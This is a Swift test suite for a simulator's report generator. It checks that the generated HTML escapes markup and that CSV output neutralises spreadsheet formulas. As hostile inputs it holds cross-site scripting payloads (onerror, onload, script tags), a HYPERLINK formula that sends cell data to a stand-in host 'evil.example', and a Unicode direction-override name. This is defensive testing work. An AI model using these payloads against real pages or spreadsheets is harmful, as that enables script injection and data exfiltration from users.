import Foundation
import SimTestSupport
import Testing

@testable import SimCLI
@testable import SimMetrics
@testable import SimReport
@testable import SimScenario

/// Nothing a scenario or a result folder says may run in a reader's browser or spreadsheet: every
/// text is escaped for where it goes, the page forbids script as a second wall, and every CSV
/// field that would begin a formula is neutralised. (`Scripts/report-check.sh` renders the same
/// hostile pages in headless Chromium and finds that no script ran.)
@Suite struct HostileReportTests {
  /// Markup that runs script if it reaches a page unescaped, in element content, in a
  /// double-quoted attribute, in a single-quoted attribute and in SVG `<title>`.
  static let payloads = [
    "<img src=x onerror=alert(1)>", "\"><svg onload=alert(2)>", "' onmouseover='alert(3)",
    "</title><script>alert(4)</script>",
  ]

  /// The elements the report draws; any other element in a page came from its data.
  static let allowedElements: Set<String> = [
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "code", "table", "tr", "th", "td", "section",
    "svg",
    "line", "text", "rect", "polyline", "polygon", "circle", "path", "span", "br", "g",
  ]

  /// Every element name opened in `html`, and every attribute name, in page order.
  static func markup(_ html: String) -> (elements: [String], attributes: [String]) {
    var elements: [String] = []
    var attributes: [String] = []
    var rest = Substring(html)
    while let open = rest.firstIndex(of: "<") {
      rest = rest[rest.index(after: open)...]
      let name = rest.prefix { $0.isLetter || $0.isNumber || $0 == "-" }
      guard !name.isEmpty, let close = rest.firstIndex(of: ">") else { continue }
      elements.append(name.lowercased())
      // Attribute names: a word followed by `=` outside quotes.
      var quote: Character?
      var word = ""
      for character in rest[name.endIndex..<close] {
        if let open = quote {
          if character == open { quote = nil }
        } else if character == "\"" || character == "'" {
          quote = character
        } else if character == "=" {
          if !word.isEmpty { attributes.append(word.lowercased()) }
          word = ""
        } else if character.isLetter || character == "-" {
          word.append(character)
        } else {
          word = ""
        }
      }
    }
    return (elements, attributes)
  }

  /// Fails unless `html` holds only the report's own elements, no event handler, the
  /// Content-Security-Policy that forbids script, and every payload as escaped text.
  static func expectInert(_ html: String, showing texts: [String], _ where_: String) {
    let (elements, attributes) = markup(html)
    let foreign = Set(elements).subtracting(allowedElements)
    #expect(foreign.isEmpty, "\(where_): elements from data: \(foreign.sorted())")
    let handlers = attributes.filter { $0.hasPrefix("on") }
    #expect(handlers.isEmpty, "\(where_): event handlers: \(handlers)")
    #expect(
      html.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'none';"))
    #expect(!html.lowercased().contains("<script"), "\(where_)")
    for text in texts {
      #expect(html.contains(XMLText.escaped(text)), "\(where_): \(text) is not shown escaped")
    }
  }

  @Test func devicesNamedLikeMarkupAreShownAsTextAndRunNoScript() throws {
    try withTemporaryDirectory { directory in
      let devices = Self.payloads.map { "{\"name\": \(jsonString($0))}" }.joined(separator: ", ")
      let scenario = """
        {"version": 1, "name": "hostile", "duration": "2h", "devices": [\(devices)],
         "workloads": [{"devices": "all", "editsPerHour": 6}]}
        """
      try scenario.write(toFile: directory + "/hostile.json", atomically: true, encoding: .utf8)
      let run = syncsim(["run", directory + "/hostile.json", "--out", directory + "/run"])
      #expect(run.code == 0, "\(run.err)")
      #expect(syncsim(["report", directory + "/run"]).code == 0)
      let html = try String(contentsOfFile: directory + "/run/report.html", encoding: .utf8)
      Self.expectInert(html, showing: Self.payloads, "device names")
      // Each name reaches the lanes, the legend and the observer groups' titles.
      #expect(html.components(separatedBy: XMLText.escaped(Self.payloads[0])).count - 1 >= 3)
    }
  }

  @Test func hostileFieldsAndHeadersOfAResultFolderRunNoScript() throws {
    try withTemporaryDirectory { directory in
      let run = directory + "/run"
      #expect(syncsim(["run", ReportTests.quickstart, "--out", run]).code == 0)
      // latency.csv: every write and observer; activities.csv: a cause header and the records.
      try rewrite(run + "/latency.csv") { row, column, header in
        ["write", "observer", "writer", "outcome"].contains(header[column]) && row > 0
          ? Self.payloads[row % Self.payloads.count] : nil
      }
      try rewrite(run + "/activities.csv") { row, column, header in
        if row == 0 && header[column] == "blocked.activityGroup" { return "blocked." + Self.payloads[0] }
        return row > 0 && header[column] == "records" ? Self.payloads[1] : nil
      }
      try rewrite(run + "/summary.csv") { row, column, header in
        row > 0 && ["scenario", "seed", "latency.p50", "fingerprint"].contains(header[column])
          ? Self.payloads[column % Self.payloads.count] : nil
      }
      try rewrite(run + "/timeline.csv") { row, column, header in
        row > 0 && ["device", "app"].contains(header[column]) ? Self.payloads[(row + column) % 4] : nil
      }
      // Two rows (each device's one state): each of the four payloads in one field.
      try rewrite(run + "/states.csv") { row, column, header in
        row > 0 && ["device", "app"].contains(header[column]) ? Self.payloads[(row * 2 + column) % 4] : nil
      }
      let result = syncsim(["report", run])
      #expect(result.code == 0, "\(result.err)")
      Self.expectInert(
        try String(contentsOfFile: run + "/report.html", encoding: .utf8), showing: Self.payloads, "run folder")

      let sweep = directory + "/sweep"
      let made = syncsim([
        "sweep", ReportTests.quickstart, "--set", "push.dropProbability=0,0.5", "--seeds", "1..2", "--out", sweep,
      ])
      #expect(made.code == 0, "\(made.err)")
      try rewrite(sweep + "/sweep-summary.csv") { row, column, header in
        if row == 0 && header[column] == "push.dropProbability" { return Self.payloads[3] }
        return row > 0 && ["point", "mean", "n", "scenario", "syncsimVersion"].contains(header[column])
          ? Self.payloads[row % Self.payloads.count] : nil
      }
      let page = syncsim(["report", sweep])
      #expect(page.code == 0, "\(page.err)")
      Self.expectInert(
        try String(contentsOfFile: sweep + "/report.html", encoding: .utf8), showing: [Self.payloads[3]], "sweep folder"
      )
    }
  }

  @Test func namesThatSpreadsheetsReadAsFormulasAreRefusedWithTheirPath() throws {
    try withTemporaryDirectory { directory in
      let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)"]
      let devices = names.map { "{\"name\": \(jsonString($0))}" }.joined(separator: ", ")
      let scenario = """
        {"version": 1, "name": "formulas", "duration": "1h", "devices": [\(devices), {"name": "a\\u202Eb"}],
         "model": {"entities": [{"name": "=Cmd", "attributes": [{"name": "@x"}]}]}}
        """
      try scenario.write(toFile: directory + "/formulas.json", atomically: true, encoding: .utf8)
      let result = syncsim(["validate", directory + "/formulas.json"])
      #expect(result.code == 65)
      for (index, _) in names.enumerated() {
        #expect(result.err.contains("devices[\(index)].name: "), "\(result.err)")
      }
      #expect(result.err.contains("which spreadsheets read as a formula"))
      #expect(result.err.contains("devices[4].name: the name holds the invisible character U+202E"))
      #expect(result.err.contains("model.entities[0].name"))
      #expect(result.err.contains("model.entities[0].attributes[0].name"))
      // The override is echoed escaped, never raw (it would reorder the terminal's line).
      #expect(!result.err.unicodeScalars.contains("\u{202E}"))
      #expect(!FileManager.default.fileExists(atPath: directory + "/Results"))
    }
  }

  @Test func everyFieldThatBeginsAFormulaIsNeutralisedAndNumbersAreNot() {
    var table = CSVTable(columns: ["=header", "b"])
    let fields: [(String, String)] = [
      ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
      ("\rx", "\"'\rx\""), ("-0.5", "-0.5"), ("-1e+300", "-1e+300"), ("-Inf", "-Inf"), ("-", "'-"), ("'=x", "'=x"),
      ("a=b", "a=b"), ("", ""), ("=a,b", "\"'=a,b\""),
    ]
    for (field, _) in fields { table.append([field, "1"]) }
    let lines = table.text.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
    #expect(lines[0] == "'=header,b")
    for (index, (field, written)) in fields.enumerated() {
      #expect(lines[index + 1] == written + ",1", "\(field.debugDescription)")
    }
    // A stream writes the same bytes as a table.
    var bytes: [UInt8] = []
    let stream = CSVStream(columns: ["=header", "b"]) { bytes += $0 }
    for (field, _) in fields { stream.append([field, "1"]) }
    try? stream.finish()
    #expect(String(decoding: bytes, as: UTF8.self) == table.text)
  }

  @Test func noFileARunOrSweepWritesHoldsAFormula() throws {
    try withTemporaryDirectory { directory in
      #expect(syncsim(["run", ReportTests.quickstart, "--out", directory + "/run"]).code == 0)
      let sweep = syncsim([
        "sweep", ReportTests.quickstart, "--set", "devices[0].savePolicy=immediate,onBackground", "--seeds", "1..2",
        "--out", directory + "/sweep",
      ])
      #expect(sweep.code == 0, "\(sweep.err)")
      var checked = 0
      for folder in ["run", "sweep"] {
        for name in try FileManager.default.contentsOfDirectory(atPath: directory + "/" + folder)
        where name.hasSuffix(".csv") {
          let text = try String(contentsOfFile: directory + "/" + folder + "/" + name, encoding: .utf8)
          let table = try #require(CSVTable.parse(text), "\(name)")
          for field in table.columns + table.rows.joined() {
            checked += 1
            guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
            #expect(CSVTable.isPlainNumber(field), "\(folder)/\(name): \(field)")
          }
        }
      }
      #expect(checked > 1000)
    }
  }

  /// Rewrites the CSV file at `path`: each field (row 0 is the header) becomes what `change`
  /// returns for it, or stays.
  func rewrite(_ path: String, _ change: (Int, Int, [String]) -> String?) throws {
    let table = try #require(CSVTable.parse(try String(contentsOfFile: path, encoding: .utf8)))
    let records = [table.columns] + table.rows
    var out = ""
    for (row, record) in records.enumerated() {
      let fields = record.indices.map { column in change(row, column, table.columns) ?? record[column] }
      out += fields.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",") + "\n"
    }
    try out.write(toFile: path, atomically: true, encoding: .utf8)
  }

  func jsonString(_ text: String) -> String {
    "\"" + text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
  }
}
